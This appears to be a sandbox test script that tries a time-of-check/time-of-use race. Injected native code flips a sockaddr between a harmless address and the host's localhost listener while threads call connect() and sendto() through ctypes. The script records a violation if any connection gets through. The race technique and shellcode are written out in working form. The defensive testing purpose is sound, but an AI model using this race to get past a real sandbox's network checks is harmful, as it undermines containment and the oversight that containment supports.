# Attack: time-of-check/time-of-use on a sockaddr. A native thread keeps
# flipping the first 8 bytes of a sockaddr_in (family, port, address)
# between a harmless address (127.0.0.2, port 9) and the host's TCP
# listener (127.0.0.1:PORT), while Python threads call connect() and
# sendto() with it through ctypes thousands of times: a supervisor that
# checked one address and let the kernel re-read the buffer would connect
# to the other. The guest also has its own network namespace, so the
# listener is out of reach twice over.
# Host-side check: the host TCP listener accepted no connection and the
# host UDP socket received no datagram.
import ctypes
import socket
import struct
import threading

from _common import TCP_PORT, UDP_PORT, done, native, ok, violation

ITER = 1500
flip_code = b"\x48\x89\x37\x48\x89\x17\x8b\x01\x85\xc0\x74\xf4\xc3"
mem, addr = native(flip_code)
flip = ctypes.CFUNCTYPE(None, ctypes.c_void_p, ctypes.c_uint64, ctypes.c_uint64, ctypes.c_void_p)(addr)


def sockaddr_head(port, ip):
    return struct.unpack("<Q", struct.pack("<H", socket.AF_INET) + struct.pack(">H", port) + socket.inet_aton(ip))[0]


libc = ctypes.CDLL(None, use_errno=True)


def attack(kind, port):
    harmless = sockaddr_head(9, "127.0.0.2")
    target = sockaddr_head(port, "127.0.0.1")
    sa = ctypes.create_string_buffer(16)
    struct.pack_into("<Q", sa, 0, harmless)
    stop = ctypes.c_int(0)
    t = threading.Thread(target=flip, args=(ctypes.addressof(sa), harmless, target, ctypes.addressof(stop)))
    t.start()
    reached = []

    def worker():
        for _ in range(ITER):
            if kind == "tcp":
                s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
                r = libc.connect(s.fileno(), sa, 16)
            else:
                s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                r = libc.sendto(s.fileno(), b"x", 1, 0, sa, 16)
            s.close()
            if r >= 0:
                reached.append(r)

    ws = [threading.Thread(target=worker) for _ in range(2)]
    for w in ws:
        w.start()
    for w in ws:
        w.join()
    stop.value = 1
    t.join()
    if reached:
        violation(f"{len(reached)} {kind} calls with a flipping sockaddr succeeded")
    else:
        ok(f"{2 * ITER} {kind} calls with a sockaddr flipping to 127.0.0.1:{port} all failed")


attack("tcp", TCP_PORT)
attack("udp", UDP_PORT)
done()
